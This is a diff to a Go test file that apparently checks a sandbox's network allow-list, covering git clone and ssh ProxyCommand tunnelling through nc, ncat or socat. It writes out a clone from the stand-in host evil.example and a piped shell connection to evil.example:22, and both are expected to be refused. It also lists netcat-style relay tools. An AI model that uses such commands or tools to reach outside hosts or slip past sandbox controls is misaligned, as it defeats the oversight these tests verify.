@@ -5,6 +5,7 @@ package network_test
 import (
 	"archive/tar"
 	"archive/zip"
+	"bufio"
 	"bytes"
 	"compress/gzip"
 	"crypto/sha1"
@@ -14,6 +15,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
+	"net"
 	"net/http"
 	"net/http/cgi"
 	"os"
@@ -125,6 +127,50 @@ func TestGitClone(t *testing.T) {
 		res := run(t, s, "git clone http://evil.example/x.git")
 		require.Contains(t, res.Text, "evil.example was refused (Bash.Hosts)")
 	})
+}
+
+// ssh gets out by the ProxyCommand that git is told, whichever of the programs for it is installed.
+func TestSSHThrough(t *testing.T) {
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(t, err)
+	t.Cleanup(func() { l.Close() })
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				line, _ := bufio.NewReader(c).ReadString('\n')
+				fmt.Fprint(c, "heard ", line)
+				c.Close()
+			}()
+		}
+	}()
+	_, port, err := net.SplitHostPort(l.Addr().String())
+	require.NoError(t, err)
+	for _, name := range []string{"nc.openbsd", "ncat", "socat"} {
+		t.Run(name, func(t *testing.T) {
+			need.Program(t, name)
+			bin := t.TempDir()
+			for _, program := range []string{name, "bash", "sh", "sed"} {
+				path, err := exec.LookPath(program)
+				require.NoError(t, err)
+				require.NoError(t, os.Symlink(path, filepath.Join(bin, strings.TrimSuffix(program, ".openbsd"))))
+			}
+			t.Setenv("PATH", bin)
+			t.Setenv("GIT_SSH", "")
+			t.Setenv("GIT_SSH_COMMAND", "")
+			s := newSuite(t, config.SandboxLandlock, config.Config{Bash: config.Bash{PrivateHosts: []string{"host.spillway.internal:" + port}}})
+			through := func(host, port string) string {
+				return run(t, s, `through=$(sed "s/.*'\(.*\)'/\1/; s/%h/`+host+`/; s/%p/`+port+`/" <<<"$GIT_SSH_COMMAND"); echo "$through"; echo ping | sh -c "$through"`).Text
+			}
+			text := through("host.spillway.internal", port)
+			require.Contains(t, text, name)
+			require.Contains(t, text, "heard ping")
+			require.Contains(t, through("evil.example", "22"), "[evil.example:22 was refused (Bash.Hosts)")
+		})
+	}
 }
 
 func TestPipDownload(t *testing.T) {
